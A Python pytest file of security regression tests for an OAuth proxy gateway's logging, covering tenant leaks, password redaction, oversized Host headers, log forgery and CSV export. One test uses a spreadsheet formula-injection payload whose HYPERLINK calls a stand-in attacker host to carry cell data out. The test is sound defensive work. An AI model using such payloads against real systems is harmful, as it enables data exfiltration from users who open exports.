"""What the gateway writes about its traffic, and who reads it back: attacks from the observe
hunt of 2026-12-05, each sent on the wire.

- An anonymous `Authorization: Basic` credential with a byte above 0x7f made the audit hook and
  the OAuth client parser raise a ValueError their `except binascii.Error` missed: a 500 and
  an ERROR traceback per request, from anyone.
- An owner token read the logger's counters, which count every tenant's requests.
- The 503 `service_down` went to the log as status 0, so no errors view showed it.
- A refused HTTP/2 request was logged with its raw target: an absolute URL's password too.
- A Host is a DNS name of at most 253 characters; a 60 KB one was logged and indexed under its
  whole length, four times over, growing the log's Redis past its cap.
- The browser login's callback answered with the `error` code its query named, so anyone could
  log `bad_gateway` for an owner's proxy, which /metrics counts as an upstream failure.
- The CSV export wrote an anonymous `client_id` of `=HYPERLINK(...)` as a spreadsheet formula.
"""

from __future__ import annotations

import csv
import functools
import io
import logging
from typing import Any

import httpx
import pytest
import trio

from oauthproxy.models.proxies import ProxyTarget
from oauthproxy.models.services import DockerService
from oauthproxy.serve import Ready
from oauthproxy.storage import Storage
from oauthproxy.storage.services import docker_service_url
from tests import oauth_helpers
from tests.backend import serve_backend
from tests.eventually import eventually
from tests.test_browser_login import APP, site, until_protected
from tests.test_cli_tokens import Cli, cli
from tests.test_http2 import SECURE, backend, connected, pki, serve_names, served
from tests.test_proxies_api import as_new_token
from tests.tls import TestPKI

__all__ = ["cli", "pki", "site"]
github = oauth_helpers.github


async def admin_search(gateway: Ready, **params: Any) -> list[dict[str, Any]]:
    headers = {"Authorization": f"Bearer {gateway.admin_token.secret}"}
    async with httpx.AsyncClient(base_url=gateway.api_url, headers=headers) as admin:
        response = await admin.get("/api/v1/logs/search", params=params)
        assert response.status_code == 200, response.text
        found: list[dict[str, Any]] = response.json()["logs"]
        return found


async def raw_exchange(port: int, data: bytes) -> bytes:
    async with await trio.open_tcp_stream("127.0.0.1", port) as stream:
        await stream.send_all(data)
        got = b""
        with trio.move_on_after(5):
            while chunk := await stream.receive_some():
                got += chunk
        return got


async def test_a_non_ascii_basic_credential_is_a_4xx_and_no_traceback(
    gateway: Ready, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.ERROR)
    port = int(gateway.api_url.rsplit(":", 1)[1].strip("/"))
    for method, path in (("GET", "/api/v1/logs/search"), ("POST", "/token")):
        answer = await raw_exchange(
            port,
            f"{method} {path} HTTP/1.1\r\nHost: localhost\r\n".encode()
            + b"Authorization: Basic \xe9Zm9vOmJhcg==\r\n"
            + b"Content-Type: application/x-www-form-urlencoded\r\n"
            + b"Content-Length: 0\r\nConnection: close\r\n\r\n",
        )
        status = int(answer.split(b" ", 2)[1])
        assert 400 <= status < 500, (path, answer[:200])
    errors = [record.getMessage() for record in caplog.records if record.levelno >= logging.ERROR]
    assert errors == []


async def test_an_owner_reads_no_other_tenants_traffic_in_the_logger_counters(
    gateway: Ready, api: httpx.AsyncClient, storage: Storage, nursery: trio.Nursery
) -> None:
    port: int = await nursery.start(functools.partial(serve_backend, "victim"))
    await storage.proxies.create(
        ProxyTarget.model_validate(
            {"hostname": "victim.example.com", "target_url": f"http://127.0.0.1:{port}"}
        )
    )
    async with (
        as_new_token(api, gateway, "eve") as eve,
        httpx.AsyncClient(
            base_url=f"http://127.0.0.1:{gateway.http_port}",
            headers={"Host": "victim.example.com"},
        ) as public,
    ):

        async def served() -> bool:
            return (await public.get("/echo/x")).status_code == 200

        await eventually(served, what="victim.example.com served")
        for _ in range(20):
            await public.get("/echo/private")

        async def counted() -> bool:  # the admin sees them (so the owner could have)
            answer = await api.get("/api/v1/logs/events")
            return bool(answer.json()["logger"]["written"] >= 20)

        await eventually(counted, what="the victim's requests in the admin's counters")
        seen = (await eve.get("/api/v1/logs/events")).json()
        assert seen["hosts"] == []
        assert seen["logger"]["written"] == 0 and seen["logger"]["buffered"] == 0


async def test_a_service_down_503_is_logged_as_a_503(gateway: Ready, storage: Storage) -> None:
    service = DockerService(service_name="fragile", internal_port=8080, status="exited")
    await storage.docker_services.create(service)
    await storage.proxies.create(
        ProxyTarget.model_validate(
            {"hostname": "fragile.example.com", "target_url": docker_service_url(service)}
        )
    )
    async with httpx.AsyncClient(
        base_url=f"http://127.0.0.1:{gateway.http_port}", headers={"Host": "fragile.example.com"}
    ) as public:

        async def down() -> bool:
            answer = await public.get("/x")
            return answer.status_code == 503 and "service_down" in answer.text

        await eventually(down, what="fragile.example.com answering service_down")

    async def logged() -> list[tuple[int, str]] | None:
        entries = await admin_search(gateway, hostname="fragile.example.com")
        shown = [
            (entry["status"], entry["gateway_reason"])
            for entry in entries
            if entry["event"] == "request" and entry["gateway_reason"] != "unknown_host"
        ]
        return shown or None

    shown = await eventually(logged, what="the 503 in the log")
    assert all(one == (503, "service_down") for one in shown), shown


async def test_a_refused_http2_request_logs_no_password_of_its_target(
    gateway: Ready, storage: Storage, nursery: trio.Nursery, pki: TestPKI
) -> None:
    await serve_names(storage, pki, {SECURE: await backend(nursery, "h2")})
    client = await connected(gateway.https_port, SECURE, pki.ca_file)
    await served(client, SECURE)
    secret = "hunter2-PASSWORD-4f1c"
    answer = await client.request(SECURE, f"https://alice:{secret}@{SECURE}/login")
    assert answer.status == 400

    async def refused() -> list[dict[str, Any]] | None:
        return await admin_search(gateway, status=400) or None

    found = await eventually(refused, what="the refusal in the log")
    assert secret not in str(found)


async def test_a_host_longer_than_a_dns_name_is_refused_and_not_logged_under_it(
    gateway: Ready,
) -> None:
    for host, status in (("a" * 253, 404), ("a" * 254, 400), ("b" * 60000, 400)):
        answer = await raw_exchange(
            gateway.http_port,
            f"GET / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode(),
        )
        assert int(answer.split(b" ", 2)[1]) == status, (len(host), answer[:200])

    async def logged() -> list[dict[str, Any]] | None:
        return await admin_search(gateway, status=400) or None

    entries = await eventually(logged, what="the refusals in the log")
    assert all(len(entry.get("hostname") or "") <= 253 for entry in entries), [
        len(entry.get("hostname") or "") for entry in entries
    ]


async def test_the_login_callback_lets_no_client_name_the_reason_logged(
    site: Ready, storage: Storage
) -> None:
    await until_protected(site)
    url = f"http://127.0.0.1:{site.http_port}/.oauthproxy/callback"
    async with httpx.AsyncClient() as anonymous:
        for _ in range(5):
            answer = await anonymous.get(
                url, params={"error": "bad_gateway\nforged"}, headers={"Host": APP}
            )
            assert answer.status_code == 403
            assert answer.json()["error"] == "login_refused"
    headers = {"Authorization": f"Bearer {site.admin_token.secret}"}
    async with httpx.AsyncClient(base_url=site.api_url, headers=headers) as admin:

        async def scraped() -> str | None:
            text = (await admin.get("/metrics")).text
            return text if f'oauthproxy_requests_total{{host="{APP}"' in text else None

        text = await eventually(scraped, what="the callbacks counted")
    failures = [
        line for line in text.splitlines() if line.startswith("oauthproxy_upstream_failures_total")
    ]
    assert failures == []


async def test_the_csv_export_holds_no_formula(cli: Cli, gateway: Ready) -> None:
    formula = '=HYPERLINK("http://attacker.example/?"&A2,"open")'
    async with httpx.AsyncClient(base_url=gateway.api_url) as anonymous:
        await anonymous.get("/authorize", params={"client_id": formula, "response_type": "code"})

    async def exported() -> str | None:
        text = await cli.ok(
            "--format", "csv", "log", "recent", "--event", "oauth.authorize_refused"
        )
        return text if "HYPERLINK" in text else None

    text = await eventually(exported, what="the /authorize event in the CSV export", within=30)
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + formula in cells
    assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")] == []


async def test_an_owners_log_does_not_show_the_admins_route_targets(
    gateway: Ready, api: httpx.AsyncClient, nursery: trio.Nursery
) -> None:
    """A global route is the admin's: an owner can neither list nor read it, yet every request
    of the owner's hostname it matched was logged with `upstream` (the admin's target URL, path
    and all) and `route_id`, in the log the owner reads."""
    port: int = await nursery.start(functools.partial(serve_backend, "shared"))
    admin_target = f"http://127.0.0.1:{port}/internal-only/T0123-hook-SECRET"
    route = {
        "route_id": "admin-internal-hook",
        "path_pattern": "/hook/",
        "target_type": "url",
        "target_value": admin_target,
        "scope": "global",
        "priority": 900,
    }
    assert (await api.post("/api/v1/routes/", json=route)).status_code == 201
    async with as_new_token(api, gateway, "eve") as eve:
        proxy = {"hostname": "eve.example.com", "target_url": f"http://127.0.0.1:{port}"}
        assert (await eve.post("/api/v1/proxy/targets/", json=proxy)).status_code == 201
        async with httpx.AsyncClient(
            base_url=f"http://127.0.0.1:{gateway.http_port}", headers={"Host": "eve.example.com"}
        ) as public:

            async def served() -> bool:
                return (await public.get("/echo/x")).status_code == 200

            await eventually(served, what="eve.example.com served")
            await public.get("/hook/probe")  # (the route sends it to the admin's target)

        async def logged() -> list[dict[str, Any]] | None:
            answer = await eve.get("/api/v1/logs/search", params={"path": "/hook/"})
            found: list[dict[str, Any]] = answer.json()["logs"]
            return found or None

        entries = await eventually(logged, what="eve's /hook/ entry")
        mine = await eve.get("/api/v1/logs/search", params={"path": "/echo/"})
    assert "T0123-hook-SECRET" not in str(entries) and "admin-internal-hook" not in str(entries)
    # her own proxy's target is hers to read
    assert any(entry["upstream"] for entry in mine.json()["logs"]), mine.json()["logs"]


async def test_a_session_id_in_a_path_parameter_is_not_logged(
    gateway: Ready, storage: Storage, nursery: trio.Nursery
) -> None:
    port: int = await nursery.start(functools.partial(serve_backend, "java"))
    await storage.proxies.create(
        ProxyTarget.model_validate(
            {"hostname": "shop.example.com", "target_url": f"http://127.0.0.1:{port}"}
        )
    )
    secret = "8F3A9C2E1B7D4A6F0E5C3B1A9D8E7F6A"
    async with httpx.AsyncClient(
        base_url=f"http://127.0.0.1:{gateway.http_port}", headers={"Host": "shop.example.com"}
    ) as public:

        async def served() -> bool:
            return (await public.get("/echo/x")).status_code == 200

        await eventually(served, what="shop.example.com served")
        await public.get(f"/echo/cart;jsessionid={secret}")

    async def logged() -> list[dict[str, Any]] | None:
        return await admin_search(gateway, hostname="shop.example.com", path="/echo/cart") or None

    entries = await eventually(logged, what="the cart request in the log")
    assert [entry["request_path"] for entry in entries] == ["/echo/cart;jsessionid=REDACTED"]
